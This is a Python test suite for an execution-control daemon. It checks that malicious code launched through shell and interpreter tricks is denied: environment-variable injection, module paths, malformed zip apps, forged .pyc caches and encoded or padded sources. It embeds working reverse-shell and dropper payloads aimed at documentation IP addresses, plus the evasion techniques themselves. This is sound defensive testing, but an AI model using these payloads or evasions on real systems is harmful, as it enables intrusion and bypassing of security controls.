"""Command lines, variables and files that are made to be misread: what the interpreter runs is what
is judged. The code is denied by its hash, so none of it may run."""
import base64
import io
import os
import py_compile
import struct
import sys
import tempfile
import zipfile
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import lwtest  # noqa: E402
from lwtest import DENY_MALICIOUS  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
MODEL = os.path.join(os.path.dirname(os.path.dirname(HERE)), "conf/layerwatch.model")
PYTHON3 = "/usr/bin/python3"
MARK = "/tmp/mark"
CODE = {
    "sh": f"echo > {MARK} # evil",
    "py": f"open('{MARK}', 'w') # evil",
    "pl": f"open(F, '>', '{MARK}'); # evil",
    "rb": f"File.write('{MARK}', '') # evil",
    "js": f"require('fs').writeFileSync('{MARK}', '') // evil",
    "php": f"file_put_contents('{MARK}', ''); // evil",
    "lua": f"io.open('{MARK}', 'w') -- evil",
    "awk": f'BEGIN {{ print "x" > "{MARK}" }} # evil',
}
FILES = {k: ("<?php " if k == "php" else "") + v + "\n" for k, v in CODE.items()}
SH, PY, PL, RB, JS, PHP, AWK = (CODE[k] for k in ("sh", "py", "pl", "rb", "js", "php", "awk"))
EVIL = [lwtest.sha256(text.encode()) for text in [*CODE.values(), *FILES.values()]]


def evil_box(t, **more):
    """Files /tmp/e/evil.LANGUAGE, and a daemon that denies them and their code."""
    box = t.box()
    watch = t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], malicious=EVIL,
                     processes={"resolve": 4}, **more)
    for suffix, text in FILES.items():
        box.put(f"/tmp/e/evil.{suffix}", text)
    return box, watch


def try_all(t, box, rows, env=None, stdin=b""):
    """Each command line is denied; an interpreter that is not installed is left out with a note."""
    for argv in rows:
        program = argv[0] if "/" in argv[0] else f"/usr/bin/{argv[0]}"
        if not os.path.exists(program):
            print(f"# {program} is not installed", flush=True)
            continue
        result = box.run([program, *argv[1:]], env=env, stdin=stdin)
        t.true(not box.has(MARK), f"{argv} {env or ''}: nothing ran")
        t.denied(result)


def row08_options_of_shells_are_read_as_the_shells_read_them(t):
    box, _ = evil_box(t)
    try_all(t, box, (
        ["bash", "+c", SH], ["dash", "+c", SH], ["zsh", "+c", SH], ["ksh93", "+c", SH],
        ["busybox", "sh", "+c", SH], ["bash", "-posix", "-c", SH], ["bash", "-login", "-c", SH],
        ["bash", "-x", "-posix", "noglob", "-c", SH], ["bash", "-cO", "extglob", SH],
        ["busybox", "busybox", "sh", "-c", SH], ["busybox", "busybox-x", "sh", "-c", SH],
        ["mksh", "+x", "/tmp/e/evil.sh"]))
    box.copy("/usr/bin/busybox", "/tmp/busyboxes")
    t.denied(box.run(["/tmp/busyboxes", "sh", "-c", SH]))
    try_all(t, box, (["bash", "+s", "/tmp/e/evil.py"],), stdin=FILES["sh"].encode())


def row08_options_of_others_are_read_as_they_read_them(t):
    box, _ = evil_box(t)
    try_all(t, box, (
        ["perl", "-V:osname", "-e", PL], ["perl", "-e", PL, "-V:osname"],
        ["ruby", "--disable", "gems", "-e", RB], ["ruby", "--enable", "rubyopt", "-e", RB],
        ["node", "--title", "x", "-e", JS], ["node", "--dns-result-order", "ipv4first", "-e", JS],
        ["node", "--max_http_header_size", "16384", "/tmp/e/evil.js"],
        ["gawk", "--sourc=" + AWK], ["gawk", "--fil", "/tmp/e/evil.awk"],
        ["gawk", "-W", "exec", "/tmp/e/evil.awk"], ["gawk", "-Wsource=" + AWK],
        ["gawk", "--field", ":", AWK],
        ["mawk", "-W", "exec", "/tmp/e/evil.awk"], ["mawk", "-We", "/tmp/e/evil.awk"]))
    try_all(t, box, (["php", "--", "/tmp/e/evil.sh"],), stdin=FILES["php"].encode())


def row08_modules_are_found_where_the_interpreter_finds_them(t):
    box, _ = evil_box(t)
    box.put("/tmp/e/Evil.pm", FILES["pl"])
    box.put("/tmp/e/Devel/Evil.pm", FILES["pl"])
    box.put("/tmp/ok", "\n")
    try_all(t, box, (
        ["perl", "-I/tmp/e", "-MEvil", "-e1"], ["perl", "-I", "/tmp/e", "-M-Evil", "-e1"],
        ["perl", "-I/tmp/e", "-d:Evil", "-e1"], ["perl", "-I/tmp/e", "-dt:Evil", "-e1"],
        ["ruby", "-I", "/tmp/e", "-revil", "-e1"],
        ["node", "--import=file:///tmp/e/evil.js", "-e1"],
        ["php", "-d", "auto_prepend_file=/tmp/e/evil.php", "/tmp/ok"],
        ["php", "-dauto_append_file='/tmp/e/evil.php'", "/tmp/ok"]))
    for name, value in (("PERL5OPT", "MEvil"), ("PERL5OPT", "- MEvil"), ("PERL5OPT", "-d:Evil")):
        try_all(t, box, (["perl", "-e1"],), env={name: value, "PERLLIB": "/tmp/e"})
    try_all(t, box, (["perl", "-e1"],), env={"PERL5OPT": "-I/tmp/e -MEvil"})
    try_all(t, box, (["perl", "-d", "-e1"],), env={"PERL5DB": PL})
    try_all(t, box, (["node", "/tmp/ok"],), env={"NODE_OPTIONS": '-r "/tmp/e/\\evil.js"'})
    try_all(t, box, (["gawk", "-f", "evil"],), env={"AWKPATH": "/tmp/e"})
    try_all(t, box, (["ruby", "-S", "evil.rb"],), env={"RUBYPATH": "/tmp/e"})


def row06_standard_input_after_other_code(t):
    box, _ = evil_box(t)
    box.put("/tmp/ok", "\n")
    try_all(t, box, (["python3", "-i", "/tmp/ok"], ["python3", "-ic", "1"]),
            stdin=FILES["py"].encode())
    try_all(t, box, (["node", "-i", "-e", "1"],), stdin=FILES["js"].encode())
    try_all(t, box, (["lua5.4", "-i", "/tmp/ok"],), stdin=FILES["lua"].encode())


def row10_a_file_behind_many_others(t):
    """All of them are judged, up to a bound; that there are more is told, and is an error."""
    box, watch = evil_box(t)
    box.put("/tmp/ok", "BEGIN {}\n")
    if not os.path.exists("/usr/bin/mawk"):
        t.skip("mawk is not installed")
    many = ["/usr/bin/mawk"] + ["-f", "/tmp/ok"] * 7
    is_denied(t, box, "the last one", many + ["-f", "/tmp/e/evil.awk"])
    many += ["-f", "/tmp/ok"] * 2
    t.ran(box.run(many))
    watch.finding(action="allowed", properties=lambda p: p.get("More_Code_Than_Looked_At"))
    watch.stop()
    strict_box, _ = evil_box(t, decision={"on_error": "deny"})
    strict_box.put("/tmp/ok", "BEGIN {}\n")
    t.denied(strict_box.run(many))


def row40_scripts_are_looked_for_where_the_interpreter_does(t):
    """A harmless file of the same name lies where one would look first."""
    box, _ = evil_box(t)
    box.put("/tmp/decoy/evil.pl", "1;\n")
    box.put("/tmp/decoy/evil.rb", "1\n")
    away = ["/bin/sh", "-c", 'cd /tmp/decoy; exec "$@"', "sh"]
    for argv in (["perl", "-S", "evil.pl"], ["ruby", "-S", "evil.rb"],
                 ["ruby", "-C", "/tmp/e", "evil.rb"], ["ruby", "-C/tmp", "-Xe", "evil.rb"]):
        if not os.path.exists("/usr/bin/" + argv[0]):
            print(f"# {argv[0]} is not installed", flush=True)
            continue
        result = box.run(away + argv, env={"PATH": "/tmp/e:/usr/bin:/bin"})
        t.true(not box.has(MARK), f"{argv}: nothing ran")
        t.contains(result.err, b"not permitted")


# What no list knows: the model says what they are. Both leave the mark first.
SHELL = f"""open('{MARK}', 'w').write('ran')
import os, pty, socket
s = socket.socket()
s.settimeout(1)
s.connect(("192.0.2.7", 4444))
for n in range(3):
    os.dup2(s.fileno(), n)
pty.spawn("/bin/sh")
"""
DROPPER = f"""open('{MARK}', 'w').write('ran')
import os, urllib.request
urllib.request.urlretrieve('http://192.0.2.9/x', '/tmp/.x')
os.chmod('/tmp/.x', 0o755)
os.system('nohup /tmp/.x >/dev/null 2>&1 &')
"""
REVERSE = f"touch {MARK}; timeout 1 bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"


def judged_box(t):
    box = t.box()
    t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], content={"model": MODEL})
    return box


def is_denied(t, box, what, argv, **more):
    result = box.run(argv, **more)
    t.true(not box.has(MARK), f"{what}: nothing ran")
    t.true(result.denied, f"{what}: denied: {result}")


def archive(*members):
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as z:
        for name, content in members:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            z.writestr(info, content, zipfile.ZIP_DEFLATED)
    return bytearray(whole.getvalue())


def compiled(source, mtime=0, size=0):
    """As the interpreter would have it beside a source of this time and size."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "m.py")
        with open(path, "w", encoding="utf-8") as f:
            f.write(source)
        py_compile.compile(path, cfile=path + "c",
                           invalidation_mode=py_compile.PycInvalidationMode.TIMESTAMP)
        with open(path + "c", "rb") as f:
            code = bytearray(f.read())
    struct.pack_into("<II", code, 8, int(mtime) & 0xffffffff, size)
    return bytes(code)


def odd_archives():
    """zipimport takes all of these."""
    plain = archive(("__main__.py", SHELL))
    entry = plain.rfind(b"PK\1\2")
    comment, method, encrypted = bytearray(plain), bytearray(plain), bytearray(plain)
    comment[-2:] = b"\xff\xff"
    method[entry + 10] = 9
    encrypted[entry + 8] |= 1
    return {
        "a comment that is too long": comment, "another method": method,
        "encrypted, it says": encrypted, "junk behind": plain + b"junk",
        "in front of it 9 MiB": b"#" * (9 << 20) + plain,
        "many members": archive(*[(f"m{n}", "") for n in range(5000)], ("__main__.py", SHELL)),
        "compiled beside source": archive(("__main__.py", "1\n"), ("__main__.pyc",
                                                                   compiled(DROPPER, 0, 2))),
    }


def row08_code_in_variables_of_shells(t):
    """Files and code: what a shell expands, functions, prompts, the files of a home."""
    box = judged_box(t)
    box.put("/tmp/e/rc", REVERSE)
    for name in (".bashrc", ".bash_profile", ".profile", ".zshenv", ".kshrc", ".mkshrc"):
        box.put("/tmp/home/" + name, REVERSE)
    command = f"$({REVERSE})"
    rows = (
        (["bash", "-c", ":"], {"BASH_ENV": command}), (["dash", "-i"], {"ENV": command}),
        (["bash", "-c", ":"], {"BASH_ENV": "$DIR/rc", "DIR": "/tmp/e"}),
        (["bash", "-c", ":"], {"BASH_ENV": "${DIR}/rc", "DIR": "/tmp/e"}),
        (["bash", "-c", ":"], {"BASH_ENV": "~/rc", "HOME": "/tmp/e"}),
        (["bash", "-c", "ls"], {"BASH_FUNC_ls%%": f"() {{ {REVERSE} }}"}),
        (["bash", "-i"], {"PROMPT_COMMAND": REVERSE}), (["dash", "-i"], {"PS1": command}),
        (["ksh93", "-xc", ":"], {"PS4": command}), (["mksh", "-xc", ":"], {"PS4": command}),
        (["bash", "-lc", ":"], {"HOME": "/tmp/home"}), (["bash", "-i"], {"HOME": "/tmp/home"}),
        (["bash", "--login", "-c", ":"], {"HOME": "/tmp/home"}),
        (["dash", "-lc", ":"], {"HOME": "/tmp/home"}), (["zsh", "-c", ":"], {"HOME": "/tmp/home"}),
        (["ksh93", "-i"], {"HOME": "/tmp/home"}), (["mksh", "-i"], {"HOME": "/tmp/home"}))
    for argv, env in rows:
        try_all(t, box, (argv,), env=env)
    box.put("/tmp/home/.bashrc", "PS1='$(date) '\n")
    t.ran(box.run(["/bin/bash", "-ic", ":"], env={"HOME": "/tmp/home", "PS1": "$(date +%H) "}))


def row10_odd_zip_applications(t):
    box = judged_box(t)
    for what, content in odd_archives().items():
        box.put("/tmp/app", bytes(content))
        is_denied(t, box, what, [PYTHON3, "/tmp/app"])
    box.put("/tmp/inside.zip", bytes(archive(("folder/__main__.py", SHELL))))
    is_denied(t, box, "in a folder", [PYTHON3, "/tmp/inside.zip/folder"])
    box.put("/tmp/site.zip", bytes(archive(("sitecustomize.py", SHELL))))
    is_denied(t, box, "in a path", [PYTHON3, "-c", "1"], env={"PYTHONPATH": "/tmp/site.zip"})
    # The same file is two programs.
    box.put("/tmp/both", SHELL.encode() + bytes(archive(("__main__.py", "1\n"))))
    is_denied(t, box, "text before an archive", [PYTHON3],
              stdin=SHELL.encode() + b"#" + bytes(archive(("__main__.py", "1\n"))))


def row33_an_archive_full_of_bombs(t):
    """A hundred thousand members, each of them 8 MiB of nothing: a bounded number is unpacked."""
    box = t.box()
    watch = t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], content={"model": MODEL})
    for name in (b"x/__main__.pyc", b"__main__.py"):
        pack = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = pack.compress(b"(" * (8 << 20)) + pack.flush()
        local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(packed), 0, 0, 0)
        entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(packed), 0,
                            len(name), 0, 0, 0, 0, 0, 0) + name
        end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0, 0, len(entry) * 100000,
                          len(local + packed), 0)
        box.put("/tmp/bombs", local + packed + entry * 100000 + end)
        box.run([PYTHON3, "/tmp/bombs"])
        t.equal(watch.status()["deadlines"], 0, "deadlines")
        t.equal(watch.status()["helper_timeouts"], 0, "timeouts of helpers")


def row10_compiled_python_behind_padding(t):
    box = judged_box(t)
    for mib in (1, 9):
        box.put("/tmp/m.pyc", compiled(f"x = '{'a' * (mib << 20)}'\n" + DROPPER))
        is_denied(t, box, f"{mib} MiB of padding", [PYTHON3, "/tmp/m.pyc"])


def row10_a_cache_that_is_not_what_its_source_says(t):
    """Python asks for the time and the size of the source only."""
    box, source, evil = t.box(), "print(1)\n", []
    tag = sys.implementation.cache_tag
    for name in ("mod", "sitecustomize", "pkg/__init__"):
        folder, base = os.path.split("/tmp/m/" + name)
        box.put(f"{folder}/{base}.py", source)
        st = os.stat(box.path(f"{folder}/{base}.py"))
        cache = compiled(f"open('{MARK}', 'w') # evil\n", st.st_mtime, len(source))
        box.put(f"{folder}/__pycache__/{base}.{tag}.pyc", cache)
        evil.append(lwtest.sha256(cache))
    box.put("/tmp/m/pkg/__main__.py", source)
    t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], malicious=evil)
    for argv in (["-Sm", "mod"], ["-c", "1"], ["-Sm", "pkg"]):
        is_denied(t, box, f"{argv}", [PYTHON3, *argv], env={"PYTHONPATH": "/tmp/m"})


def test_compiled_modules_of_the_library_run(t):
    box = judged_box(t)
    for name in ("http.server", "json.tool", "zipfile", "pydoc"):
        t.ran(box.run([PYTHON3, "-m", name, "-h"]))


def row37_source_in_another_encoding(t):
    box = judged_box(t)
    words = [base64.b64encode(line.encode("utf-16be")).decode().rstrip("=")
             for line in SHELL.splitlines()]
    box.put("/tmp/utf7", "# coding: utf-7\n" + "".join(f"+{word}-\n" for word in words))
    is_denied(t, box, "utf-7", [PYTHON3, "/tmp/utf7"])
    escaped = "".join(f"\\x{ord(c):02x}" for c in "\n" + SHELL)
    box.put("/tmp/escaped", f"# coding: unicode_escape\n#{escaped}\n")
    is_denied(t, box, "in a comment", [PYTHON3, "/tmp/escaped"])


def row37_code_between_padding(t):
    """In the middle of what is kept of a text, and with NULs that a shell leaves out."""
    box = judged_box(t)
    filler = ("# " + "x" * 70 + "\n") * 4000
    box.put("/tmp/padded", filler + SHELL + filler)
    is_denied(t, box, "padding on both sides", [PYTHON3, "/tmp/padded"])
    box.put("/tmp/nuls", b"".join(bytes([c, 0]) for c in REVERSE.encode()))
    is_denied(t, box, "NULs between the letters", ["/bin/dash", "/tmp/nuls"])


if __name__ == "__main__":
    lwtest.main()
